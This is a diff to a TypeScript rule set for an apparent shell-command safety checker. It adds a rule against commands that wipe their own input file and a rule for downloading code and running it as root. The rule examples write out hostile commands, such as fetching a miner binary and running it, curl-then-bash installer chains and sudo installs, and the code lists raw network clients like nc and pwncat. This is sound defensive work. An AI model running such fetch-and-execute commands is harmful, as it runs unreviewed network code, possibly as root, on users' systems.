@@ -6,7 +6,7 @@
 import type { Tier } from '../../../protocol/index.js';
 import type { CommandView } from './commandView.js';
 import type { Category } from './rule.js';
-import { INTERPRETERS } from './rules/network.js';
+import { runOfFetchedCode } from './fetchedCode.js';
 
 export interface ComboInput {
   views: CommandView[];
@@ -104,34 +104,6 @@ function feeds(reader: CommandView, sender: CommandView): boolean {
   return reader.cmd.span.end <= sender.cmd.span.start && s.upstream.includes(reader.program);
 }
 
-/** Where a download lands: `curl -o F`, `wget -O F`, `curl URL > F` (static paths only). */
-function downloadedTo(view: CommandView): string | null {
-  const program = view.program;
-  if (program === null) return null;
-  const options: Record<string, readonly string[]> = {
-    curl: ['-o', '--output'],
-    wget: ['-O', '--output-document'],
-    aria2c: ['-o', '--out'],
-    http: ['-o', '--output'],
-    xh: ['-o', '--output'],
-    'invoke-webrequest': ['-outfile'],
-    iwr: ['-outfile'],
-    'invoke-restmethod': ['-outfile'],
-    irm: ['-outfile'],
-  };
-  const names = options[program];
-  if (!names) return null;
-  for (const f of view.flags)
-    if (names.includes(f.name) && f.value && f.value.dynamic.length === 0 && f.value.value !== '-')
-      return f.value.value;
-  const out = view.cmd.redirects.find(
-    (r) => (r.op === '>' || r.op === '>|') && (r.fd === null || r.fd === 1),
-  );
-  return out && out.target.dynamic.length === 0 ? out.target.value : null;
-}
-
-const RUNNERS = new Set([...INTERPRETERS, 'source', '.']);
-
 /** Programs that write out a whole database, or a stream from its start. */
 const DUMPERS = new Set([
   'pg_dump',
@@ -151,33 +123,53 @@ function dumps(view: CommandView): boolean {
   return view.program === 'redis-cli' && view.flags.some((f) => f.name === '--rdb');
 }
 
-/** `./x`, `x` and `$PWD/x` name the same file here; nothing else is resolved. */
-function samePath(a: string, b: string): boolean {
-  const norm = (p: string) => p.replace(/^(\.\/)+/, '');
-  return norm(a) === norm(b);
-}
+/** Programs whose operands are text or names, not files they read. */
+const NOT_READERS = new Set([
+  'echo',
+  'printf',
+  'ls',
+  'touch',
+  'mkdir',
+  'test',
+  '[',
+  'true',
+  ':',
+  'stat',
+  'realpath',
+]);
 
-/** Runs the file at `path`: as the program, or as the script an interpreter reads. */
-function runsFile(view: CommandView, path: string): boolean {
-  const word = view.cmd.argv[0];
-  if (word && word.dynamic.length === 0 && word.value.includes('/') && samePath(word.value, path))
-    return true;
-  // PowerShell's `.\a.ps1` (bash reads it as `.a.ps1`).
-  if (
-    word &&
-    word.dynamic.length === 0 &&
-    /^\.\\/.test(word.raw) &&
-    samePath(word.raw.replace(/\\/g, '/'), path)
-  )
-    return true;
-  const first = view.operands[0];
-  return (
-    view.program !== null &&
-    RUNNERS.has(view.program) &&
-    first !== undefined &&
-    first.dynamic.length === 0 &&
-    samePath(first.value, path)
-  );
+/**
+ * A file the shell empties (`> f`) that the same command, or an earlier stage of its pipeline,
+ * reads: the shell truncates it before anything reads it (`sort f > f`, `cat f | jq . > f`).
+ */
+function truncatedInput(views: readonly CommandView[]): number[] | null {
+  const norm = (p: string) => p.replace(/^(\.\/)+/, '');
+  for (const v of views) {
+    for (const r of v.cmd.redirects) {
+      if (
+        !['>', '>|', '&>'].includes(r.op) ||
+        r.target.dynamic.length > 0 ||
+        r.target.value.startsWith('/dev/')
+      )
+        continue;
+      const target = norm(r.target.value);
+      const reads = (u: CommandView) =>
+        (u.program !== null &&
+          !NOT_READERS.has(u.program) &&
+          u.operands.some((w) => w.dynamic.length === 0 && norm(w.value) === target)) ||
+        u.cmd.redirects.some(
+          (x) => x.op === '<' && x.target.dynamic.length === 0 && norm(x.target.value) === target,
+        );
+      if (reads(v)) return [v.index];
+      const p = v.cmd.pipeline;
+      const upstream = views.find(
+        (u) =>
+          p && u.cmd.pipeline && u.cmd.pipeline.id === p.id && u.cmd.pipeline.index < p.index && reads(u),
+      );
+      if (upstream) return [upstream.index, v.index];
+    }
+  }
+  return null;
 }
 
 const RAW_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'pwncat']);
@@ -335,27 +327,65 @@ export const COMBO_RULES: readonly ComboRule[] = [
     counterExamples: ['git remote add upstream https://github.com/o/r.git && git fetch upstream'],
   },
   {
+    id: 'disk.truncate-input',
+    tier: 'high',
+    reason:
+      'Redirects output over a file the same command reads: the shell empties the file before it is read, and its content is lost',
+    find: ({ views }) => truncatedInput(views),
+    examples: [
+      'sort data.csv > data.csv',
+      'jq \'.scripts.test = "vitest"\' package.json > package.json',
+      'cat notes.txt | uniq > notes.txt',
+      'tr a-z A-Z < words.txt > words.txt',
+    ],
+    counterExamples: [
+      'sort data.csv > sorted.csv',
+      'sort data.csv >> data.csv',
+      'echo data.csv > data.csv',
+      'sort data.csv -o data.csv',
+      'cat a.txt > b.txt; cat b.txt > a.txt',
+    ],
+  },
+  {
     id: 'rce.download-run',
     tier: 'high',
-    reason: 'Downloads a file and runs it in the same command: code from the network that nobody read',
+    reason:
+      'Downloads code and runs it in the same command (a file, an unpacked archive, a cloned repository): code from the network that nobody read',
     find({ views }) {
-      for (const dl of views) {
-        const path = downloadedTo(dl);
-        if (path === null) continue;
-        const run = views.find((v) => v.index > dl.index && runsFile(v, path));
-        if (run) return [dl.index, run.index];
-      }
-      return null;
+      const run = runOfFetchedCode(views);
+      return run ? [run.fetch, run.run] : null;
     },
     examples: [
       'curl -s https://x.example/xmrig -o /tmp/x && chmod +x /tmp/x && /tmp/x',
       'wget -O install.sh https://x.example/i.sh; bash install.sh',
       'curl -fsSL https://x.example/a.py > a.py && python3 a.py',
+      'cd /tmp && curl -sLO https://x.example/agent && chmod +x agent && ./agent',
+      'wget https://x.example/setup.sh && sh setup.sh',
+      'git clone https://github.com/acme/bootstrap && cd bootstrap && ./install.sh',
+      'curl -LO https://x.example/y.tar.gz && tar xzf y.tar.gz && ./y/install',
     ],
     counterExamples: [
       'curl -o data.json https://api.example.com/x && jq . data.json',
       'curl -o a.sh https://x.example/a.sh && cat a.sh',
+      'git clone https://github.com/acme/web && cd web && npm ci',
+      'curl -LO https://x.example/y.tar.gz && tar tzf y.tar.gz',
+      'cd /srv && ./deploy.sh && curl -O https://x.example/report.csv',
     ],
+  },
+  {
+    id: 'rce.download-run-root',
+    tier: 'critical',
+    reason: 'Downloads code and runs it as root in the same command: curl | sudo sh in steps',
+    find({ views }) {
+      const run = runOfFetchedCode(views);
+      return run?.elevated ? [run.fetch, run.run] : null;
+    },
+    examples: [
+      'curl -fsSL https://get.docker.com -o get-docker.sh && sudo sh get-docker.sh',
+      'cd /tmp && curl -LO https://x.example/y.tar.gz && tar xzf y.tar.gz && sudo ./y/install',
+    ],
+    counterExamples: ['curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh'],
+    weight: 17,
   },
   {
     id: 'avail.fork-bomb',
